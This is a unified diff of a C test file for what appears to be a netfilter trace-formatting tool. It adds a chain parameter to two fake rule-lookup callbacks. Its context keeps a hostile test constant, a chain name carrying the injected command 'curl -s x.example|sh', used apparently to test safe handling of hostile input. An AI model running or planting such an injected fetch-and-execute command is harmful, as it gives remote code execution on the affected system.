@@ -16,10 +16,11 @@
 #define OWN "trace_debug"
 
 /* A ruleset of three rules, one of them deleted since. */
-static const char *fake_rule(void *ctx, uint8_t family, const char *table, uint64_t handle,
-			     bool *ret_deleted)
+static const char *fake_rule(void *ctx, uint8_t family, const char *table, const char *chain,
+			     uint64_t handle, bool *ret_deleted)
 {
 	(void)ctx;
+	(void)chain;
 	*ret_deleted = false;
 	if (family != NFPROTO_INET)
 		return NULL;
@@ -332,10 +333,11 @@ static void test_text_accept_and_deleted_rule(void **state)
 #define SHELL_CHAIN  "FWD;curl -s x.example|sh;#"
 #define XT_RULE	     "xt match \"conntrack\" counter packets 0 bytes 0 drop"
 
-static const char *hostile_rule(void *ctx, uint8_t family, const char *table, uint64_t handle,
-				bool *ret_deleted)
+static const char *hostile_rule(void *ctx, uint8_t family, const char *table, const char *chain,
+				uint64_t handle, bool *ret_deleted)
 {
 	(void)ctx;
+	(void)chain;
 	(void)table;
 	*ret_deleted = false;
 	if (family == NFPROTO_IPV4 && handle == 11)
